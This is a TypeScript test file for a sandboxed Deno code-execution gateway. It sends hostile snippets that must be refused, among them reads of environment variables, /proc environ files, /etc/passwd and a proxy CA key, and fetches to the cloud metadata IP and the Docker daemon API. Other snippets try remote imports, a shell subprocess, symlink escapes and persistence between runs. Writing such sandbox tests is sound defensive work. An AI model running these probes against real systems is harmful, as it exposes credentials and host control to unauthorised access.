/**
 * Hostile programs, one defence per test: each tries a way out (secrets, network, filesystem,
 * persistence) and must be refused, while the gateway keeps serving.
 */
import type { Client } from "@modelcontextprotocol/sdk/client/index.js";
import { afterAll, beforeAll, describe, expect, inject, it } from "vitest";
import { connect, execute } from "../helpers/mcp.ts";
import { TEST_SECRETS } from "../helpers/stack.ts";

const stack = inject("stack");
const SECRETS = Object.values(TEST_SECRETS);

/** Wraps attempts so each reports "<name>: ALLOWED" or "<name>: <error>". */
function attempts(cases: Record<string, string>): string {
  const body = Object.entries(cases)
    .map(([name, code]) => `try { await (async () => { ${code} })(); out.push(${JSON.stringify(name)} + ": ALLOWED"); } catch (e) { out.push(${JSON.stringify(name)} + ": " + (e as Error).name + " " + (e as Error).message.slice(0, 80)); }`)
    .join("\n");
  return `const out: string[] = [];\n${body}\nconsole.log(out.join("\\n"));`;
}

describe("hostile code", { timeout: 120_000 }, () => {
  let client: Client;
  beforeAll(async () => {
    client = await connect(stack.mcpUrl, "hostile");
  });
  afterAll(async () => {
    await client.close();
  });

  async function expectAllRefused(cases: Record<string, string>) {
    const result = await execute(client, attempts(cases), 20);
    const lines = result.stdout.trim().split("\n");
    expect(lines).toHaveLength(Object.keys(cases).length);
    for (const line of lines) expect(line).not.toContain("ALLOWED");
    for (const secret of SECRETS) expect(result.stdout + result.stderr).not.toContain(secret);
    return lines;
  }

  it("should not reveal a secret through the environment or /proc", async () => {
    await expectAllRefused({
      env: "Deno.env.toObject()",
      procSelf: 'await Deno.readTextFile("/proc/self/environ")',
      procInit: 'await Deno.readTextFile("/proc/1/environ")',
      procCmd: 'await Deno.readTextFile("/proc/1/cmdline")',
      caKey: 'await Deno.readTextFile("/var/lib/airlock-proxy/ca/mitmproxy-ca.pem")',
      fileUrl: 'await fetch("file:///etc/passwd")',
    });
  });

  it("should not reach the network by any other API of the runtime", async () => {
    await expectAllRefused({
      connect: 'await Deno.connect({ hostname: "proxy", port: 8080 })',
      connectTls: 'await Deno.connectTls({ hostname: "api.fake.test", port: 443 })',
      listen: "Deno.listen({ port: 9999 })",
      dns: 'await Deno.resolveDns("example.com", "A")',
      websocket:
        'await new Promise((ok, bad) => { const w = new WebSocket("wss://unlisted.fake.test/"); w.onopen = ok; w.onerror = () => bad(new Error("ws failed")); })',
      remoteImport: 'await import("https://unlisted.fake.test/x.ts")',
      allowlistedImport: 'await import("https://api.fake.test/x.ts")',
      npmImport: 'await import("npm:left-pad")',
      workerRemote:
        'await new Promise((ok, bad) => { const w = new Worker("https://api.fake.test/w.js", { type: "module" }); w.onmessage = ok; w.onerror = (e) => { e.preventDefault(); bad(new Error("worker failed: " + e.message)); }; })',
      unlistedFetch: 'await fetch("https://unlisted.fake.test/")',
      metadataIp: 'await fetch("http://169.254.169.254/latest/meta-data/")',
      dockerHost: 'await fetch("http://172.17.0.1:2375/containers/json")',
      subprocess: 'new Deno.Command("sh", { args: ["-c", "id"] }).outputSync()',
    });
  });

  it("should not get around the proxy with a client of its own", async () => {
    // api.fake.test is allowlisted, so Deno lets the code name it as a proxy or dial it directly;
    // the sandbox network has no route to it, so only the real proxy path exists.
    await expectAllRefused({
      ownProxy:
        'const c = Deno.createHttpClient({ proxy: { url: "http://api.fake.test:8000" } }); const r = await fetch("https://api.fake.test/echo", { client: c }); if (!r.ok) throw new Error(String(r.status));',
      directTls: 'const c = await Deno.connectTls({ hostname: "api.fake.test", port: 443 }); c.close();',
    });
  });

  it("should not escape the scratch directory on disk", async () => {
    await expectAllRefused({
      readEtc: 'await Deno.readTextFile("/etc/passwd")',
      listTmp: "for await (const _ of Deno.readDir('/tmp')) {}",
      writeTmp: 'await Deno.writeTextFile("/tmp/planted", "x")',
      writeSkills: 'await Deno.writeTextFile("/skills/planted.ts", "x")',
      parent: 'await Deno.readDir("..")[Symbol.asyncIterator]().next()',
      symlinkOut: 'Deno.symlinkSync("/etc/passwd", "link"); await Deno.readTextFile("link")',
      chmodSkills: 'Deno.chmodSync("/skills", 0o777)',
      chmodTmp: 'Deno.chmodSync("/tmp", 0o700)',
    });
  });

  it("should not leave anything for the next execution", async () => {
    const plant = await execute(
      client,
      `(globalThis as any).planted = 1; await Deno.writeTextFile("persist.txt", "left behind");
       localStorage.setItem("k", "left behind"); console.log("planted")`,
    );
    expect(plant.stdout).toBe("planted\n");
    const look = await execute(
      client,
      `const found = [];
       if ((globalThis as any).planted) found.push("global");
       try { Deno.readTextFileSync("persist.txt"); found.push("file"); } catch {}
       if (localStorage.getItem("k")) found.push("localStorage");
       console.log(JSON.stringify(found));`,
    );
    expect(look.stdout).toBe("[]\n");
  });
});
